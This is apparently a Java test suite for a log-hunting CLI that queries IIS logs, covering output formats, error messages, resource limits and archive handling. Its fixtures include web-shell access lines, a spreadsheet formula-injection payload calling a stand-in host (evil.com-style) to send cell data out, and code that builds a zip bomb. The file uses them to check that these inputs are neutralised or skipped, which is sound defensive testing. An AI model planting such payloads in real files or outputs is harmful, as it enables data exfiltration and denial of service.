package org.hygiene.lessons.hunt.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.hygiene.core.testing.TestIo;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** {@code hygiene hunt -q}: one query for scripts, through the real launcher and log readers. */
class HuntCommandTest {
    @TempDir Path home;
    @TempDir Path logs;

    @BeforeEach
    void writeAnIisLog() throws IOException {
        Path dir = Files.createDirectories(logs.resolve("inetpub/logs/LogFiles/W3SVC1"));
        Files.writeString(
                dir.resolve("u_ex210303.log"),
                """
                #Software: Microsoft Internet Information Services 10.0
                #Version: 1.0
                #Date: 2021-03-03 00:00:00
                #Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken
                2021-03-03 06:59:30 10.0.0.5 POST /owa/auth/shell.aspx - 443 - 203.0.113.21 Mozilla/5.0 - 200 0 0 133
                2021-03-03 07:05:10 10.0.0.5 POST /owa/auth/shell.aspx - 443 - 203.0.113.21 Mozilla/5.0 - 200 0 0 120
                2021-03-03 08:00:01 10.0.0.5 GET /owa/ - 443 alice 192.0.2.10 Mozilla/5.0 - 200 0 0 9
                """
                        .replace("\n", "\r\n"));
    }

    @Test
    void csvNeverCarriesALiveSpreadsheetFormulaFromALog() throws IOException {
        Path dir = logs.resolve("inetpub/logs/LogFiles/W3SVC1");
        Files.writeString(
                dir.resolve("u_ex210304.log"),
                """
                #Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken
                2021-03-04 01:00:00 10.0.0.5 GET /owa/ - 443 - 198.51.100.7 =HYPERLINK("http://evil.example/?"&A1,"click") - 200 0 0 5
                """
                        .replace("\n", "\r\n"));
        TestIo io = io();
        int status =
                io.run(
                        "hunt",
                        "--logs",
                        logs.toString(),
                        "--format",
                        "csv",
                        "-q",
                        "W3CIISLog | where cIP == \"198.51.100.7\" | project csUserAgent");
        assertThat(status).isZero();
        assertThat(io.out())
                .isEqualTo(
                        "csUserAgent\r\n"
                            + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"\r\n");
    }

    private TestIo io() {
        return new TestIo(home);
    }

    @Test
    void aLineCutShortIsLeftOutAndTheMessageSaysWhichAndWhy() throws IOException {
        Path log = logs.resolve("inetpub/logs/LogFiles/W3SVC1/u_ex210303.log");
        Files.writeString(
                log,
                Files.readString(log)
                        + "2021-03-03 09:00:00 10.0.0.5 POST /mapi/emsmdb/ Mailbox 443 bob",
                java.nio.charset.StandardCharsets.UTF_8);
        TestIo io = io();

        int status = io.run("hunt", "--logs", logs.toString(), "-q", "W3CIISLog | count");

        assertThat(status).isZero();
        assertThat(io.out()).contains("3");
        assertThat(io.err())
                .contains("1 unreadable log line was left out:")
                .contains("u_ex210303.log:8: it has 8 of the 15 fields its #Fields line lists")
                .contains("cut short");
    }

    @Test
    void aQueryPrintsATableAndExitsZero() {
        TestIo io = io();
        int status =
                io.run(
                        "hunt",
                        "--logs",
                        logs.toString(),
                        "-q",
                        "W3CIISLog | where csMethod == \"POST\" | summarize count() by cIP");
        assertThat(status).isZero();
        assertThat(io.out()).contains("cIP           count_").contains("203.0.113.21       2");
    }

    @Test
    void csvAndJsonFormatsAreForScripts() {
        TestIo io = io();
        assertThat(
                        io.run(
                                "hunt",
                                "--logs",
                                logs.toString(),
                                "--format",
                                "csv",
                                "-q",
                                "W3CIISLog | project cIP, csUriStem | take 1"))
                .isZero();
        assertThat(io.out()).isEqualTo("cIP,csUriStem\r\n203.0.113.21,/owa/auth/shell.aspx\r\n");
        assertThat(
                        io.run(
                                "hunt",
                                "--logs",
                                logs.toString(),
                                "--format",
                                "json",
                                "-q",
                                "W3CIISLog | summarize n = count(), first = min(TimeGenerated)"))
                .isZero();
        assertThat(io.out()).isEqualTo("[\n  {\"n\": 3, \"first\": \"2021-03-03T06:59:30Z\"}\n]\n");
    }

    @Test
    void aBadQueryExitsTwoWithTheCaretAndASuggestion() {
        TestIo io = io();
        int status =
                io.run("hunt", "--logs", logs.toString(), "-q", "W3CIISLog | where cIPP == \"x\"");
        assertThat(status).isEqualTo(2);
        assertThat(io.err())
                .contains("                   ^~~~")
                .contains("unknown column 'cIPP'")
                .contains("did you mean 'cIP'?");
        assertThat(io.out()).isEmpty();
    }

    @Test
    void agoCountsFromTheEndOfTheLogsOrFromNow() {
        TestIo io = io();
        io.run(
                "hunt",
                "--logs",
                logs.toString(),
                "--format",
                "csv",
                "-q",
                "W3CIISLog | where TimeGenerated > ago(1h) | count");
        assertThat(io.out()).isEqualTo("Count\r\n2\r\n");
        io.run(
                "hunt",
                "--logs",
                logs.toString(),
                "--now",
                "2021-03-03T07:00:00Z",
                "--format",
                "csv",
                "-q",
                "W3CIISLog | where TimeGenerated between (ago(30m) .. now()) | count");
        assertThat(io.out()).isEqualTo("Count\r\n1\r\n");
    }

    @Test
    void wrongOptionsAreExplained() {
        TestIo io = io();
        assertThat(io.run("hunt", "--logs", logs.resolve("missing").toString(), "-q", "W3CIISLog"))
                .isEqualTo(1);
        assertThat(io.err()).contains("no such folder");
        assertThat(
                        io.run(
                                "hunt",
                                "--logs",
                                logs.toString(),
                                "--now",
                                "yesterday",
                                "-q",
                                "W3CIISLog"))
                .isEqualTo(1);
        assertThat(io.err()).contains("--now must be an instant");
    }

    @Test
    void withoutQueryTheShellReadsQueriesFromAPipe() {
        TestIo io = io();
        io.terminal(
                () ->
                        org.hygiene.core.testing.TestTerminals.dumb(
                                new java.io.ByteArrayInputStream(
                                        "W3CIISLog | count\n.quit\n".getBytes()),
                                new java.io.ByteArrayOutputStream()));
        assertThat(io.run("hunt", "--logs", logs.toString())).isZero();
    }

    @Test
    @Timeout(60)
    void queriesPastTheBoundsExitTwoWithASentenceAndNoTrace() {
        for (String query :
                List.of(
                        "W3CIISLog | where " + "-".repeat(5_000) + "1 == 1",
                        "W3CIISLog" + " | where true".repeat(5_000),
                        "W3CIISLog | where csUriStem matches regex"
                                + " \"((a{1,1000}){1,1000}){1,1000}\"",
                        "W3CIISLog | where csUriStem == \"" + "a".repeat(2_000_000) + "\"")) {
            TestIo io = io();
            int status = io.run("hunt", "--logs", logs.toString(), "-q", query);
            assertThat(status).isEqualTo(2);
            assertThat(io.err())
                    .containsAnyOf("nests too deeply", "at most 500", "too complex", "limit is")
                    .doesNotContain("Exception")
                    .doesNotContain("\tat ");
            assertThat(io.err().length()).isLessThan(1_000);
        }
    }

    @Test
    void aQueryOverItsMemoryBudgetExitsTwoAndNamesTheFlag() {
        TestIo io = io();
        int status =
                io.run(
                        "hunt",
                        "--logs",
                        logs.toString(),
                        "--max-memory",
                        "1",
                        "-q",
                        "let a = strcat(\""
                                + "x".repeat(20_000)
                                + "\"); W3CIISLog | extend s = strcat(a, a, a, a, a, a, a, a, a, a,"
                                + " a, a, a, a, a, a, a, a, a, a, a, a, a, a, a, a, a, a, a, a, a,"
                                + " a, a, a, a, a, a, a, a, a) | sort by s");
        assertThat(status).isEqualTo(2);
        assertThat(io.err()).contains("needs more than 1 MB of memory").contains("--max-memory");
    }

    /** The IIS log of {@link #writeAnIisLog}, gzipped, and a zip bomb beside it. */
    private void compressTheLogAndAddABomb() throws IOException {
        Path log = logs.resolve("inetpub/logs/LogFiles/W3SVC1/u_ex210303.log");
        try (java.io.OutputStream out =
                new java.util.zip.GZIPOutputStream(
                        Files.newOutputStream(log.resolveSibling("u_ex210303.log.gz")))) {
            Files.copy(log, out);
        }
        Files.delete(log);
        try (java.util.zip.ZipOutputStream zip =
                new java.util.zip.ZipOutputStream(
                        Files.newOutputStream(logs.resolve("bomb.zip")))) {
            zip.putNextEntry(new java.util.zip.ZipEntry("inetpub/logs/LogFiles/W3SVC1/u_ex1.log"));
            byte[] zeros = new byte[1 << 20];
            for (int i = 0; i < 300; i++) {
                zip.write(zeros);
            }
        }
    }

    @Test
    void aQueryReadsGzippedLogsAndNamesWhatItSkippedOnStandardError() throws IOException {
        compressTheLogAndAddABomb();
        TestIo io = io();
        int status = io.run("hunt", "--logs", logs.toString(), "-q", "W3CIISLog | count");
        assertThat(status).isZero();
        assertThat(io.out()).contains("3");
        assertThat(io.err())
                .contains("hygiene: Not read: 1 file or archive")
                .contains("bomb.zip: expands to more than 256 MiB")
                .contains("possible zip bomb");
    }

    @Test
    void theShellBannerCountsLogFilesAndNamesWhatItSkipped() throws IOException {
        compressTheLogAndAddABomb();
        TestIo io = io();
        java.io.ByteArrayOutputStream screen = new java.io.ByteArrayOutputStream();
        io.terminal(
                () ->
                        org.hygiene.core.testing.TestTerminals.dumb(
                                new java.io.ByteArrayInputStream(
                                        "W3CIISLog | count\n.quit\n".getBytes()),
                                screen));
        assertThat(io.run("hunt", "--logs", logs.toString())).isZero();
        assertThat(screen.toString(java.nio.charset.StandardCharsets.UTF_8))
                .contains("Hygiene hunt: 1 log file in 7 tables from " + logs)
                .contains("Not read: 1 file or archive")
                .contains("bomb.zip: expands to more than 256 MiB");
    }

    @Test
    void checkAndHuntReadTheSameArchivedLogs() throws IOException {
        compressTheLogAndAddABomb();
        Path zipped = logs.resolve("inetpub/logs/LogFiles/W3SVC1/u_ex210303.log.gz");
        Path collected = logs.resolve("collected.zip");
        try (java.util.zip.ZipOutputStream zip =
                new java.util.zip.ZipOutputStream(Files.newOutputStream(collected))) {
            zip.putNextEntry(new java.util.zip.ZipEntry("W3SVC2/u_ex210304.log.gz"));
            zip.write(Files.readAllBytes(zipped));
        }
        Files.delete(logs.resolve("bomb.zip"));
        TestIo check = io();
        check.run("check", "--logs", logs.toString());
        TestIo hunt = io();
        hunt.run("hunt", "--logs", logs.toString(), "-q", "W3CIISLog | count");

        // Both read the two IIS logs: one gzipped, one gzipped inside a zip.
        assertThat(check.out()).contains("Read 2 log files");
        assertThat(hunt.out()).contains("6");
        assertThat(hunt.err()).isEmpty();
    }
}
